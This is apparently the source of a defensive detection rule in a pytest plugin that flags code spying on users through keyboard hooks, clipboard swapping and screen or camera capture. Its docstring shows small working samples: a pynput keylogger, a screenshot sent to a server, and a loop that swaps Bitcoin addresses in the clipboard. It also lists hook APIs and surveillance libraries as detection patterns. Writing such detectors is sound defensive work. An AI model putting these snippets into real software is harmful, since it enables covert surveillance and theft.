"""SMG224: the code watches what people type, copy or have on their screen."""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator
from typing import TYPE_CHECKING

from pytest_selfmod_guard import paths
from pytest_selfmod_guard.model import Risk
from pytest_selfmod_guard.rules import Sighting, python_rule
from pytest_selfmod_guard.rules._reaching import REACHERS
from pytest_selfmod_guard.rules.danger._flow_marks import SPIED, Mark

if TYPE_CHECKING:
    from pytest_selfmod_guard.rules.danger._flow import Flow
    from pytest_selfmod_guard.syntax import Call, Python

_HOOKS = frozenset(
    (
        "pynput.keyboard.Listener", "keyboard.on_press", "keyboard.on_release", "keyboard.hook",
        "keyboard.record",
        "keyboard.start_recording", "pyHook.HookManager", "pyxhook.HookManager",
        "pyWinhook.HookManager",
        "pynput.mouse.Listener", "PyHook3.HookManager", "keyboard.read_event", "keyboard.read_key",
    )
)  # fmt: skip
_NATIVE = ("SetWindowsHookExA", "SetWindowsHookExW", "SetWindowsHookEx", "GetAsyncKeyState")
_COPIERS = frozenset(
    (
        "pyperclip.copy",
        "clipboard.copy",
        "win32clipboard.SetClipboardText",
        "win32clipboard.SetClipboardData",
        "xerox.copy",
    )
)
_LURKS = re.compile(r"\b(?:while|Thread|Timer|asyncio|schedule|after)\b")
"""What watches the clipboard goes on; a helper that copies once and puts back does not."""
_WORDS = (
    b"pynput", b"keyboard", b"pyhook", b"pyxhook", b"pywinhook", b"pyhook3",
    b"setwindowshookexa", b"setwindowshookexw",
    b"setwindowshookex", b"getasynckeystate", b"pyperclip", b"clipboard", b"win32clipboard",
    b"xerox", b"klembord",
    b"read_clipboard", b"imagegrab", b"pyautogui", b"mss", b"pyscreenshot", b"d3dshot",
    b"pyscreeze", b"pygetwindow", b"dxcam", b"cv2",
    b"sounddevice", b"pyaudio", b"pygame", b"picamera", b"speech_recognition", b"soundcard",
)  # fmt: skip


@python_rule(
    "SMG224",
    risk=Risk.HIGH,
    hint="listen for the program's own short cuts only, and take pictures "
    "and clipboard contents only "
    "when the user asks for it and where they stay on the machine",
    triggers=(*REACHERS, *_WORDS),
)
def spies_on_people(python: Python) -> Iterable[Sighting]:
    """
    Keys, clipboard, screen, camera or microphone are recorded and leave, or are exchanged.

    Flagged are key loggers that write down or send, anything recorded that is
    sent, and what exchanges the clipboard's content (a wallet's address, say)
    for something of its own. A hook for every key, or a picture of the screen,
    is a warning by itself.

    Flagged: every key is written down
        === shop/tool.py
          from pynput import keyboard
          def pressed(key):
        +     with open("keys.txt", "a") as file:
        +         file.write(str(key))
        + keyboard.Listener(on_press=pressed).start()

    Flagged: the screen is sent
        === shop/tool.py
          import io, requests
          from PIL import ImageGrab
        + def look(server):
        +     data = io.BytesIO()
        +     ImageGrab.grab().save(data, "png")
        +     requests.post(server, files={"picture": data})

    Flagged: one address for another
        === shop/tool.py
          import re, pyperclip
        + while True:
        +     if re.match("^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", pyperclip.paste()):
        +         pyperclip.copy("my-own-address")

    Flagged: a picture of the screen [medium]
        === shop/tool.py
          from PIL import ImageGrab
        + ImageGrab.grab().save("screen.png")

    Allowed: one short cut, and a copy for the user
        === shop/tool.py
          import keyboard, pyperclip
        + keyboard.add_hotkey("ctrl+alt+s", search)
        + pyperclip.copy(result)
    """
    from pytest_selfmod_guard.rules.danger._flow import flow  # noqa: PLC0415 (imports libcst)
    from pytest_selfmod_guard.rules.danger._flow_sends import (  # noqa: PLC0415 (imports libcst)
        sends,
    )

    known = flow(python)
    sent = [send for send in sends(known) if send.marks & SPIED and not send.is_lookup]
    for send in sent:
        yield _sighting(
            python,
            send.call,
            "what somebody types, copies or looks at is sent away here",
            Risk.HIGH,
        )
    for call, what, harmful in _taken(known):
        mild = paths.zone(python.path) == paths.TEST or not harmful
        yield _sighting(python, call, what, Risk.MEDIUM if mild else Risk.HIGH)


def _taken(flow: Flow) -> Iterator[tuple[Call, str, bool]]:
    from pytest_selfmod_guard.rules.danger._flow_sends import (  # noqa: PLC0415 (imports libcst)
        sends,
    )

    leaves = any(True for _ in sends(flow))
    keeps = leaves or any(
        name.rpartition(".")[2] in ("open", "write_text")
        for call in flow.python.calls
        for name in call.names
    )
    lurks = _LURKS.search(flow.python.text) is not None
    pasted = any(flow.direct(call.node) & Mark.CLIPBOARD for call in flow.python.calls)
    for call in flow.python.calls:
        names = flow.edges.names(call.node)
        if names & _HOOKS or any(name.endswith(_NATIVE) for name in names):
            yield call, "this sees every key that is pressed", keeps
        elif names & _COPIERS and pasted and _is_own(flow, call):
            yield call, "this exchanges what is in the clipboard", lurks
        elif flow.own(call.node) & (Mark.SCREEN | Mark.CAMERA):
            yield (
                call,
                "this records screen, camera or microphone",
                leaves and bool(flow.own(call.node) & Mark.SCREEN),
            )


def _is_own(flow: Flow, call: Call) -> bool:
    """Tell whether what is copied was not made from what was there."""
    copied = call.arg(flow.python, 0, "text")
    return copied is not None and not flow.marks(copied) & Mark.CLIPBOARD


def _sighting(python: Python, call: Call, what: str, risk: Risk) -> Sighting:
    return Sighting(python.line(call.node), what, python.code(call.node), call.scope, risk=risk)
